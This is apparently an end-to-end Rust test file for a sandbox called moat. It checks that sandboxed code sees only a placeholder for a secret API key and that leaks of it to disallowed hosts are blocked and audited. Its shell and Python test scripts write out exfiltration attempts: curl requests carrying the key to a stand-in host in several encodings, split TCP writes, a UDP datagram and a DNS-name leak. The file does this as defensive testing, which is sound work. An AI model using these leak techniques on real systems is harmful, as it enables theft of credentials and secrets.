//! Secrets end to end: the sandbox holds only a placeholder; a placeholder heading for a
//! host outside its secret's list never arrives, in any form, and each violation action
//! does what it says. (Substituting the value for allowed hosts is the next step.)
#![allow(clippy::unwrap_used, clippy::expect_used)] // Test code: a panic is the failure report.

use std::process::Output;
use std::time::{Duration, Instant};

use moat_e2e::{WORLD_DNS, World, moat_bin, run_with_timeout, stderr, stdout};
use serde_json::Value;

const T: Duration = Duration::from_secs(90);
/// The real value, in moat's own environment only.
const VALUE: &str = "sk-live-REALVALUE-7f3a9c";

/// `moat run` with secret API_KEY allowed to api.example.test, the world's DNS and an
/// audit log, running `script`; the output and the audit events.
fn run(w: &World, extra: &[&str], script: &str) -> (Output, Vec<Value>, String) {
    let audit = w.dir.join(format!(
        "secret-audit-{}.jsonl",
        std::process::id() ^ script.len() as u32
    ));
    let _ = std::fs::remove_file(&audit);
    let mut cmd = w.in_host(moat_bin());
    cmd.env("API_KEY", VALUE).args([
        "run",
        "--audit",
        audit.to_str().unwrap(),
        &format!("--dns={WORLD_DNS}"),
        "--secret",
        "API_KEY@api.example.test",
    ]);
    cmd.args(extra).args(["--", "sh", "-c", script]);
    let out = run_with_timeout(cmd, T);
    let text = std::fs::read_to_string(&audit).unwrap_or_default();
    let events = text
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    (out, events, text)
}

fn violations(events: &[Value]) -> Vec<&Value> {
    events
        .iter()
        .filter(|e| e["event"] == "secret" && e["secret"] == "violation")
        .collect()
}

#[test]
fn the_sandbox_sees_only_the_placeholder() {
    let w = World::new();
    let (out, _, audit) = run(
        &w,
        &[],
        "echo \"env=$API_KEY\"; cat /proc/self/environ | tr '\\0' '\\n' | grep '^API_KEY='",
    );
    let text = stdout(&out);
    assert!(out.status.success(), "{text}\n{}", stderr(&out));
    let placeholder = text
        .lines()
        .find_map(|l| l.strip_prefix("env="))
        .unwrap()
        .to_owned();
    assert!(
        placeholder.starts_with("moat_") && placeholder.len() == 37,
        "{text}"
    );
    assert!(text.contains(&format!("API_KEY={placeholder}")), "{text}");
    for (what, haystack) in [
        ("stdout", &text),
        ("stderr", &stderr(&out)),
        ("audit", &audit),
    ] {
        assert!(!haystack.contains(VALUE), "the value is in {what}");
    }
}

#[test]
fn a_placeholder_heading_elsewhere_never_arrives_in_any_form() {
    let w = World::new();
    // Each form to a host the secret does not name (other.example.test), over plain HTTP;
    // then the same request without the placeholder, which arrives (the control).
    let script = r#"
p="$API_KEY"
echo "placeholder=$p"
pct=$(printf '%s' "$p" | od -An -tx1 | tr -d ' \n' | sed 's/\(..\)/%\1/g')
json=$(printf '%s' "$p" | od -An -tx1 | tr -d ' \n' | sed 's/\(..\)/\\u00\1/g')
try() { curl -sS -m 10 -o /dev/null "$@"; echo "exit=$?"; }
try "http://other.example.test:8080/raw?k=$p"
try "http://other.example.test:8080/pct?k=$pct"
try -u "user:$p" "http://other.example.test:8080/basic"
try -H 'Content-Type: application/json' --data "{\"key\": \"$json\"}" "http://other.example.test:8080/json"
python3 - "$p" <<'PY'
import socket, sys, time
p = sys.argv[1]
s = socket.create_connection(("other.example.test", 8080), timeout=10)
half = len(p) // 2
s.sendall(("GET /split?k=" + p[:half]).encode())
time.sleep(0.3)
s.sendall((p[half:] + " HTTP/1.1\r\nHost: other.example.test\r\n\r\n").encode())
try:
    print("split", s.recv(100)[:12])
except OSError as e:
    print("split", type(e).__name__)
PY
try "http://other.example.test:8080/control"
"#;
    let (out, events, audit) = run(&w, &[], script);
    let text = stdout(&out);
    let arrived: Vec<String> = w
        .log()
        .iter()
        .filter(|l| l["server"] == "http")
        .filter_map(|l| l["path"].as_str().map(str::to_owned))
        .collect();
    assert!(
        arrived.iter().any(|p| p == "/control"),
        "{arrived:?}\n{text}\n{}",
        stderr(&out)
    );
    for path in ["/raw", "/pct", "/basic", "/json"] {
        assert!(
            !arrived.iter().any(|p| p.starts_with(path)),
            "{path} arrived: {arrived:?}"
        );
    }
    // Split over two writes: the first half waited in moat for the second, so nothing of
    // the placeholder arrived (the server may log the request line cut short).
    let placeholder = text
        .lines()
        .find_map(|l| l.strip_prefix("placeholder="))
        .unwrap_or_else(|| panic!("{text}"));
    assert!(
        !arrived.iter().any(|p| p.contains(&placeholder[..8])),
        "{arrived:?}"
    );
    // Each was refused with a reset the client saw, and audited without the value.
    assert_eq!(violations(&events).len(), 5, "{events:?}");
    assert!(violations(&events).iter().all(|e| e["name"] == "API_KEY"
        && e["action"] == "block"
        && e["host"] == "other.example.test"));
    assert!(!audit.contains(VALUE) && !stderr(&out).contains(VALUE));
}

#[test]
fn inside_intercepted_tls_too() {
    let w = World::new();
    let ca = w.dir.join("world-ca.pem");
    let script = "curl -sS -m 10 -o /dev/null \"https://other.example.test:8443/tls?k=$API_KEY\"; echo \"exit=$?\"; \
                  curl -sS -m 10 -o /dev/null https://other.example.test:8443/tls-control; echo \"exit=$?\"";
    let (out, events, _) = run(
        &w,
        &[
            "--tls-intercept",
            "--tls-port",
            "8443",
            "--tls-upstream-ca",
            ca.to_str().unwrap(),
        ],
        script,
    );
    let paths: Vec<String> = w
        .log()
        .iter()
        .filter_map(|l| l["path"].as_str().map(str::to_owned))
        .collect();
    assert!(
        paths.iter().any(|p| p == "/tls-control"),
        "{paths:?}\n{}",
        stderr(&out)
    );
    assert!(!paths.iter().any(|p| p.starts_with("/tls?")), "{paths:?}");
    assert_eq!(violations(&events).len(), 1, "{events:?}");
}

#[test]
fn block_and_log_warns_and_block_and_terminate_stops_the_sandbox() {
    let w = World::new();
    let leak = "curl -sS -m 10 -o /dev/null \"http://other.example.test:8080/leak?k=$API_KEY\"; echo \"exit=$?\"";
    let (out, events, _) = run(&w, &["--on-secret-violation", "block-and-log"], leak);
    assert!(
        stderr(&out).contains("moat: warning: blocked the placeholder of secret API_KEY"),
        "{}",
        stderr(&out)
    );
    assert!(
        out.status.success(),
        "the command went on: {}",
        stdout(&out)
    );
    assert_eq!(violations(&events)[0]["action"], "block_and_log");

    let start = Instant::now();
    let script = format!("{leak}; sleep 30; echo survived");
    let (out, events, _) = run(
        &w,
        &["--on-secret-violation", "block-and-terminate"],
        &script,
    );
    assert_eq!(out.status.code(), Some(123), "{}", stderr(&out));
    assert!(!stdout(&out).contains("survived"));
    assert!(
        start.elapsed() < Duration::from_secs(20),
        "{:?}",
        start.elapsed()
    );
    assert!(
        stderr(&out).contains("stopping the sandbox (block-and-terminate)"),
        "{}",
        stderr(&out)
    );
    assert_eq!(violations(&events)[0]["action"], "block_and_terminate");
    assert!(
        !w.log()
            .iter()
            .any(|l| l["path"].as_str().is_some_and(|p| p.starts_with("/leak")))
    );
}

#[test]
fn nor_in_a_datagram_or_a_dns_name() {
    let w = World::new();
    let script = r#"
python3 - "$API_KEY" <<'PY'
import socket, sys
p = sys.argv[1]
for payload in (b"clean datagram", ("token=" + p).encode()):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(2)
    u.connect(("203.0.113.10", 7777))
    u.send(payload)
    try:
        print("udp", payload[:5], "echoed", len(u.recv(200)))
    except OSError:
        print("udp", payload[:5], "silent")
PY
getent hosts "$(printf '%s' "$API_KEY" | tr a-z A-Z).other.example.test" || echo "lookup refused"
getent hosts api.example.test >/dev/null && echo "lookup fine"
"#;
    let (out, events, audit) = run(&w, &[], script);
    let text = stdout(&out);
    assert!(
        text.contains("udp b'clean' echoed"),
        "{text}\n{}",
        stderr(&out)
    );
    assert!(text.contains("udp b'token' silent"), "{text}");
    assert!(
        text.contains("lookup refused") && text.contains("lookup fine"),
        "{text}"
    );
    let v = violations(&events);
    assert!(v.iter().any(|e| e["proto"] == "udp"), "{v:?}");
    assert!(v.iter().any(|e| e["proto"] == "dns"), "{v:?}");
    // Neither reached the world.
    assert!(
        !w.log()
            .iter()
            .any(|l| l.to_string().to_ascii_lowercase().contains("moat_")),
        "{:?}",
        w.log()
    );
    assert!(!audit.contains(VALUE));
}

#[test]
fn a_piece_of_a_placeholder_waits_then_goes_when_the_sandbox_finishes() {
    let w = World::new();
    // 20 characters of the placeholder, then the sandbox shuts its side: they cannot
    // become the placeholder any more, so they go (to the sink, which counts them).
    let script = r#"
python3 - "$API_KEY" <<'PY'
import socket, sys
p = sys.argv[1]
s = socket.create_connection(("203.0.113.10", 9000), timeout=10)
data = ("start " + p[:20]).encode()
s.sendall(data)
s.shutdown(socket.SHUT_WR)
print("answer", len(s.recv(200)) > 0, "sent", len(data))
PY
"#;
    let (out, events, _) = run(&w, &[], script);
    let text = stdout(&out);
    assert!(
        text.contains("answer True sent 26"),
        "{text}\n{}",
        stderr(&out)
    );
    assert!(
        w.log()
            .iter()
            .any(|l| l["server"] == "sink" && l["bytes"] == 26),
        "{:?}",
        w.log()
    );
    assert!(violations(&events).is_empty(), "{events:?}");
}
